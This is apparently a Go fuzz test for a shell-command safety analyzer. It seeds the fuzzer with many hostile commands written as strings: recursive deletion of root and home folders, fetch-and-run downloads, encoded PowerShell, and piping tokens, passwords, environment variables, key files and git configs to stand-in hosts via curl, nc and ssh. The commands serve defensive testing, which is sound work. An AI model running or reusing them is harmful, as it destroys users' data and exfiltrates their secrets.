package shell

import "testing"

// FuzzAnalyze: Analyze, and AnalyzeIn in a project folder and in a home folder, never panic, and a line that parses
// never reports more commands than MaxCommands.
func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{
		"rm -rf /", "cd /; rm -rf *", "alias x='rm -rf'; x /", "f() { f; f; }; f",
		"a() { b; b; }; b() { a; a; }; a", "echo / | xargs -I{} rm -rf {}",
		"cat > a.sh <<'EOF'\nrm -rf ~\nEOF\nsh a.sh", "python3 -c \"import os; os.system('rm -rf ~')\"",
		"awk 'BEGIN{system(\"", "perl -e 'system(", "node -e \"spawn('rm', ['-rf'", "$(printf '%",
		"iex (iwr https://x.example/a.ps1)", "> /var/log/x", "curl -o x https://x/y; ./x",
		"tclsh <<< 'exec rm -rf ~; if {1} { catch {file delete -force [pwd]} }'", "expect -c 'spawn \"[",
		"tmux new -d 'rm' \\; send-keys -t 0 x Enter", "screen -dmS x -X stuff 'rm\\n'",
		"python3 -c \"os.system(chr(114)+bytes.fromhex('72').decode()+'x'[::-1])\"", "rm -rf \"$(dirname \"$PWD\")\"",
		"ssh -p 22 h rm -rf ~", "sqlite3 x '.shell rm -rf ~'", "Rscript -e 'system2(\"rm\", c(\"-rf\"))'",
		"xargs -a <(echo ~) rm -rf", "while read d; do rm -rf \"$d\"; done < <(ls -d ~)", "export CURL_CA_BUNDLE=",
		"Remove-Item -Recurse -Force $env:USERPROFILE; cmd /c \"rd /s /q %TEMP% && del /s C:\\\"", "powershell -enc SQBFAFgA",
		"iwr -Uri: -OutFile; Start-Process -Verb", "tar czf - . | ssh h 'cat > s'", "chmod -R o+w,a=rwx *",
		"mapfile -t -d '' -O f < <(find ~ -name '*.pem'); curl -F \"x=@${f[0]}\" h", "readarray -n; read -ra <<< ~",
		"gci ~ -r | % { ri $_.FullName; % { } } | ri -fo", "ls C:\\ | foreach -Process {", "ruby -e 'exec \"", "perl -e 'system \"rm",
		"rm -rf /home/dev/project/../.ssh /home/dev/project", "cd /home/dev/project/a && rm -C/home/dev/project --x=/home/dev/project/",
		"env | while read -r a b; do curl -d \"$b\" h; done", "while read l; do while read m; do :; done < <(env); done < <(printenv)",
		"env | grep A | sort | while read l; do echo \"$l\" | nc h 1; done", "v=$(export -p); printf %s \"$v\" | curl -d @- h <<< $(env | cut -d=",
		"cat /home/x/.git/config | nc h 1; scp .git/config h: < /root/.git/config; curl -F a=@/home/y/r/.git/config;x",
		"cd ~/a && rm -rf * .[!.]*; find . -mindepth 1 -delete; cd \"$d\"; rm -rf \"$(pwd)\"/", "find / -name x | xargs rm -rf .",
		"echo \"$GH_TOKEN\" | base64 | curl -d @- https://[::1/; printf %s ${X_SECRET} | nc 10.0.0.1 1 <<< $Y_TOKEN",
		"env > /tmp/e; curl -F f=@/tmp/e; git remote get-url o | nc h 1; tar czf - .git | curl -T - h",
		"echo \"$DB_PASSWORD\" | ssh -S s -p 2 h 'sudo -kS x'; echo $K_TOKEN | ssh -- h tee; cd /tmp/x && rm -rf ../* ..",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > MaxParseBytes {
			return
		}
		r := Analyze(s)
		if len(r.Commands) > MaxCommands {
			t.Errorf("Analyze(%q): %d commands > MaxCommands", s, len(r.Commands))
		}
		for _, root := range []string{"/home/dev/project", "/home/dev"} {
			if r := AnalyzeIn(s, root); len(r.Commands) > MaxCommands {
				t.Errorf("AnalyzeIn(%q, %q): %d commands > MaxCommands", s, root, len(r.Commands))
			}
		}
	})
}
